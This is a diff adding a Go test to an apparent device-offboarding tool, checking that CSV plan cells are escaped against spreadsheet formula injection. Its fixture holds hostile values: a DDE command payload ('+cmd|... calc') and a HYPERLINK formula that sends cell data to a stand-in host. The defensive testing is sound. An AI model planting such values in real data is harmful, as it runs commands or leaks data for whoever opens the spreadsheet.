@@ -841,3 +841,45 @@ func TestCampaignPlanWorkerStoppedMidPlan(t *testing.T) {
 		t.Errorf("a file was written: %v", err)
 	}
 }
+
+// TestCampaignPlanCellsAreNotFormulas: the plan is reviewed in a
+// spreadsheet, and a device's tags are set on the device itself (its
+// registry), its name by whoever runs it: a cell that begins with =, +,
+// - or @ would be run as a formula when the CSV is opened. Such a cell
+// of the informational columns begins with a quote; the device's id,
+// which names it for campaign run, is never one, and the run takes the
+// plan as it is.
+func TestCampaignPlanCellsAreNotFormulas(t *testing.T) {
+	t.Parallel()
+	e := setupPlanWith(t, worker.PlanOptions{}, "400d", true)
+	id := fmt.Sprintf("%040x", 7000)
+	e.sim.AddMachine(e.tenantID, mdesim.Machine{
+		ID: id, ComputerDNSName: "+cmd|' /C calc'!A0", OSPlatform: "-Linux", HealthStatus: "Inactive",
+		LastSeen: time.Now().Add(-3000 * 24 * time.Hour), RbacGroupName: "@SUM(1+1)",
+		MachineTags: []string{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, "Lab"},
+	})
+	out := filepath.Join(e.dir, "formulas.csv")
+	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out); code != exitOK {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	rows := readCSV(t, out)
+	row := rows[1] // the oldest
+	want := []string{id, "'+cmd|' /C calc'!A0", row[2], "'-Linux", "Inactive", "'@SUM(1+1)", `'=HYPERLINK("http://example.invalid/?"&A1,"open");Lab`}
+	if !slices.Equal(row, want) {
+		t.Errorf("row %q,\nwant %q", row, want)
+	}
+	for _, r := range rows[1:] {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %q: cell %q would be read as a formula", r, cell)
+			}
+		}
+	}
+	report := filepath.Join(e.dir, "formulas-report.csv")
+	if code, _, stderr := e.ctl("campaign", "run", "--tenant", "contoso", "--csv", out, "--dry-run", "--report", report, "--timeout", "2m"); code != exitOK {
+		t.Fatalf("run: exit %d: %s", code, stderr)
+	}
+	if got := readCSV(t, report)[1]; got[2] != id || got[4] != offboard.OutcomeDryRun {
+		t.Errorf("report row %q: want device %s, %s", got, id, offboard.OutcomeDryRun)
+	}
+}
